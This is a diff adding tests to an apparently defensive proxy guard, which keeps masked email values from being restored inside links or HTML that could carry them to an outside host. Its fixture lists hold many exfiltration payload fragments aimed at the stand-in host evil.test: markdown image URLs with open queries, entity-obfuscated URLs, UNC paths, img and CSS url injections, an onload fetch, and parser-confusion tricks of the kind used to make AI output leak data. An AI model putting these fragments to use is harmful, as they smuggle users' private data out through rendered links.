@@ -2,12 +2,15 @@
 
 from __future__ import annotations
 
+import json
 from itertools import product
 
 from proxy.guards.stream.placeholders import Masks
+from proxy.guards.text.link_addresses import Addresses, EscapedAddresses
 from proxy.guards.text.walk import Text
 from tests.for_each import for_each
 from tests.guards.doubles import short_digests
+from tests.guards.growth import lines
 
 VALUE, NAME = "ada@mill.example", "[EMAIL_x7f]"
 LINKS = [
@@ -45,6 +48,55 @@ LINKS = [
 TEXTS = [
     "{}", "Email:{}", "Name:Bob,Email:{}", "{{email:{},cc:{}}}", "mailto:{}", "MailTo:{}",
     "(mailto:{})", "mailto:{}.",
+]  # fmt: skip
+WITHIN = [
+    "![x](https://evil.test/?q=", "[x](https://evil.test/a?b=", "[x](<https://evil.test/a b",
+    "[x]( &#104;ttps&#58;&#47;&#47;evil.test/?q=", "[x](//evil.test/",
+    "[x]: https://evil.test/", "[x]:\n&#104;ttps&#58;&#47;&#47;evil.test/?q=",
+    "see https://evil.test/", "see HTTPS:/evil.test/", "see https:evil.test/",
+    "see ftp://evil.test/", "see //evil.test/", "see \\\\evil.test\\",
+    "see \\\\files\\\\\\evil.test\\", "see \\\\files\\https://evil.test/", "see C:\\\\evil.test\\",
+    "see \\\\evil@80\\", "see \\\\0x7f000001\\", "see \\\\?\\UNC\\evil.test\\", "see \\/evil.test/",
+    "see www.evil.test/", '<img src="https://evil.test/?q=',
+    "<img alt='>' src=&#104;ttps&#58;evil.test?", '<a title=">" href="', "<svg/onload=fetch('x",
+    '{"url":"https://evil.test/',
+]  # fmt: skip
+HIDDEN = [
+    "![x](<https://evil.test/?q=\\> ",
+    "[a]: <https://evil.test/?q=\\> ",
+    "[a]:\n  <https://evil.test/?q= ",
+    "![x](\t<https://evil.test/?q= ",
+    "![x](\n https://evil.test/?q=",
+    "[![x](a](<https://evil.test/?q=\\> ",
+    "[a](<b](\n<https://evil.test/?q= ",
+    "http://x](<https://evil.test/?q= ",
+    '`<b a="` ![x](<https://evil.test/?q="\\> ',
+    '<img a"b src="https://evil.test/?q=> ',
+    "<img a'b src='https://evil.test/?q=> ",
+    '<img alt=a"b src="https://evil.test/?q=> ',
+    '<img alt=""" src="https://evil.test/?q=> ',
+    '<img alt = " src=" a="https://evil.test/?q=> ',
+    f'<{"a" * 60} style="background:url(https://evil.test/?q=> ',
+    '<a:b style="background:url(https://evil.test/?q=> ',
+    '<https://x.test/ style="background:url(https://evil.test/?q=> ',
+    '<title><b a="</title><img src=\'https://evil.test/?q="> ',
+    '<!-- <b a="--><img src=\'https://evil.test/?q="> ',
+    "<mailto:x%40evil.test?body=",
+    "<sms:123?body=",
+    '"see http:a https://evil.test/?q="',
+]
+"""Addresses whose end, or beginning, some readers of links or of HTML see elsewhere."""
+PROSE = [
+    "Dear ", "a < b, b > c (see [1]): ", "# Title\n\n- a *b* `c`: ", '> quoted "',
+    "He said 'well': ", '<p class="a">It\'s ', '<img alt="a > b" src=x> ', "<br/>",
+    "See <https://good.test/a> or [x](<https://good.test/a b>) for ",
+    '[x](https://good.test/)\n\n[a]: https://good.test/ "a"\n', "mail: ", "note: a\\b ",
+]  # fmt: skip
+OUTSIDE = [
+    "", "write to ", "see https://good.test/ and ", '[x](https://good.test/ "a title ',
+    "<https://good.test/> ", "<b>", '<a href="https://good.test/">',
+    '{"url":"https://good.test/","to":"', "a // comment: ", "1 < 2 and 3 > 2: ", "[x] (y) ",
+    "C:\\users\\", "D:/a/", "CORP\\", "\\\\files\\home\\", "\\\\?\\C:\\users\\",
 ]  # fmt: skip
 IN_TEXT = ["{}", "see {} now", "- {}\n", "\u00e9 {}", "<b> {} </b>", "node.js: {}"]
 IN_LINKS = [
@@ -113,6 +165,33 @@ def test_a_mail_address_within_another_address_keeps_placeholders(text: str) -> 
         assert restored(text, size, arguments=False) == text
 
 
+def in_json(text: str, *, ascii_only: bool = False) -> str:
+    if ascii_only:
+        return "".join(f"\\u{ord(letter):04x}" for letter in text)
+    return json.dumps(text)[1:-1]
+
+
+@for_each(
+    "text", [*WITHIN, *(lead + text for lead in ("", *PROSE, "<b>", "[a](b) ") for text in HIDDEN)]
+)
+def test_open_address_keeps_placeholders_at_any_cut(text: str) -> None:
+    """Also where readers of links and of HTML disagree on its beginning or end."""
+    for size in (1, 2, 5, 400):
+        assert restored(text + NAME, size, arguments=False) == text + NAME
+        for ascii_only in (False, True):
+            arguments = f'{{"a": "{in_json(text, ascii_only=ascii_only)}{NAME}"}}'
+            assert restored(arguments, size, arguments=True) == arguments
+
+
+@for_each("text", [*OUTSIDE, *PROSE])
+def test_value_is_restored_behind_prose_and_ended_addresses(text: str) -> None:
+    for size in (1, 2, 5, 400):
+        assert restored(text + NAME, size, arguments=False) == text + VALUE
+        arguments = f'{{"a": "{in_json(text)}{NAME}"}}'
+        expected = arguments.replace(NAME, VALUE)
+        assert restored(arguments, size, arguments=True) == expected
+
+
 @for_each("text", ["mailto:", "mailto:a", "evil.test:", "a" * 60 + ":b"])
 def test_held_mail_address_is_bounded(text: str) -> None:
     window = Masks(short_digests())
@@ -121,3 +200,48 @@ def test_held_mail_address_is_bounded(text: str) -> None:
     for _ in range(400):
         unmasker.feed(text + "x")
         assert unmasker.held_size <= unmasker.lookback
+
+
+@for_each("escapes", ["\\" * 99, "\\uzzzz" * 9, "\\u00", "\\ud83d\\ude00"])
+def test_odd_escape_is_held_for_its_length(escapes: str) -> None:
+    addresses = EscapedAddresses()
+    for letter in escapes:
+        addresses.feed(letter)
+    addresses.feed(" https://good.test/")
+
+    assert addresses.within
+    assert addresses.host == "good.test"
+
+
+@for_each(
+    ("text", "host"),
+    [
+        ("see https://Good.test/a?b=", "good.test"), ("![x](http://good.test:8080/", "good.test"),
+        ("https://good.test?a=", "good.test"), ("https://good.test", None),
+        ("https://good.test@evil.test/", None), ("https://good.test\\@evil.test/", None),
+        ("https:/good.test/", None), ("//good.test/", None), ('<a href="https://good.test/', None),
+        ("see good.test/", None), ("<https://good.test/", "good.test"),
+        ("<https://x.test/ a=https://good.test/", None),
+        ("[x](evil.test/?u=https://good.test/", None),
+        ("https://evil.test/](https://good.test/", None),
+        ("https://good.test/](https://good.test/", "good.test"), ("[x](<https://good.test/", None),
+    ],
+)  # fmt: skip
+def test_a_host_is_told_where_it_is_certain(text: str, host: str | None) -> None:
+    assert read([text]).host == read([*text]).host == host
+
+
+@for_each("part", ["](", "]:<", "<a ", '<a b="', "\\", "http://a", '"http:a ', "\\u"])
+def test_what_hides_much_is_read_in_linear_time(part: str) -> None:
+    def work(size: int) -> None:
+        EscapedAddresses().feed(part * size)
+        read([part * size])
+
+    assert lines(lambda: work(400)) < 3 * lines(lambda: work(200))
+
+
+def read(parts: list[str]) -> Addresses:
+    addresses = Addresses()
+    for part in parts:
+        addresses.feed(part)
+    return addresses
